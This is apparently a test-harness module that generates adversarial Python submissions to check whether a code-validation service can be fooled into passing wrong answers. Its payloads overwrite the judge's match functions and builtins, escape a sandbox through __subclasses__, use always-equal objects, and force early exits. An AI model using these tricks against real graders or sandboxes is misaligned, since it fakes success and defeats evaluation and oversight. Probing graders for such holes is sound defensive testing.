import { judgeAnswer, pick, post, type Attack, type Random } from "./attack.ts";

/** Ways to reach whatever judges an example, written where the author of the code may write. */
const lines: readonly string[] = [
  ">>> import sys; sys.modules['judge'].matches = lambda *a, **k: True",
  ">>> import decimal; decimal.sys.modules['judge'].judge_item = lambda *a: (True, None)",
  ">>> import datetime; datetime.sys.modules['compare'].matches = lambda *a: True",
  ">>> [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'catch_warnings'][0]()._module.sys.modules['judge'].JUDGES.clear()",
  ">>> import gc; [o.__setitem__('held', True) for o in gc.get_objects() if type(o) is dict and 'held' in o]",
  ">>> import builtins; builtins.eval = lambda *a: True; builtins.all = lambda *a: True",
  ">>> import os; os.write(4, b'x' * 64)",
  ">>> import ctypes; ctypes.string_at(0)",
  ">>> import math as sorted; from math import inf as square",
  ">>> from operator import ne as __eq__; int = lambda *a: 9",
];
const bodies: readonly string[] = [
  "import atexit, os\natexit.register(lambda: os._exit(0))",
  "import sys\nsys.displayhook = lambda value: None\nsys.excepthook = lambda *a: None",
  "class Same(int):\n    def __eq__(self, other): return True\n    def __hash__(self): return 0\n    def __repr__(self): return '9'",
  "class Meta(type):\n    def __eq__(cls, other): return True\n    def __instancecheck__(cls, it): return True\nclass All(metaclass=Meta): pass",
  "import importlib.abc, sys\nclass Hook(importlib.abc.MetaPathFinder):\n    def find_spec(self, *a): return None\nsys.meta_path.insert(0, Hook())",
  "import builtins\nbuiltins.isinstance = lambda *a: True",
  "import sys\nframe = sys._getframe()\nwhile frame.f_back: frame = frame.f_back\nframe.f_globals['held'] = True",
  "import os, threading\nthreading.Thread(target=lambda: [os.write(fd, b'{}') for fd in (1, 2)], daemon=True).start()",
];
const returned = ["0", "x", "Same(9) if 'Same' in globals() else 1", "None"];
const examples =
  ">>> square(3)\n9\n>>> square(12)\n144\nassert square(2) == 4\nassert [square(n) for n in (1, 5)] == [1, 25]";
const exampleCount = 4;

/** A wrong program that tries to have its caller's examples called right. */
export function docstringAttack(random: Random): Attack {
  const [line, second, body, value] = [
    pick(random, lines),
    pick(random, lines),
    pick(random, bodies),
    pick(random, returned),
  ];
  const salt = Math.floor(random() * 1e9);
  const code = `${body}\n\ndef square(x):\n    """Squares.\n\n    ${line}\n    ${second}\n    """\n    return ${value}  # ${salt}\n`;
  return {
    kind: "docstring",
    name: line,
    run: async (target) => {
      const job = JSON.stringify({ mode: "execute", code, options: { examples, timeout_s: 5 } });
      const { status, text } = await post(target, "/v1/validate", job);
      if (status !== 200) return judgeAnswer(status, text);
      const { valid, diagnostics } = JSON.parse(text) as {
        valid: boolean;
        diagnostics: { rule: string; line: number | null }[];
      };
      const mismatches = diagnostics.filter(
        ({ rule, line: at }) => rule === "python:example-mismatch" && at === null,
      );
      if (valid) return "a wrong program was called valid";
      const isOver = diagnostics.some(({ rule }) => /^python:(?:crash|timeout|exit-status)/.test(rule));
      return mismatches.length >= exampleCount - 1 || isOver
        ? "held"
        : `${mismatches.length} mismatches told`;
    },
  };
}
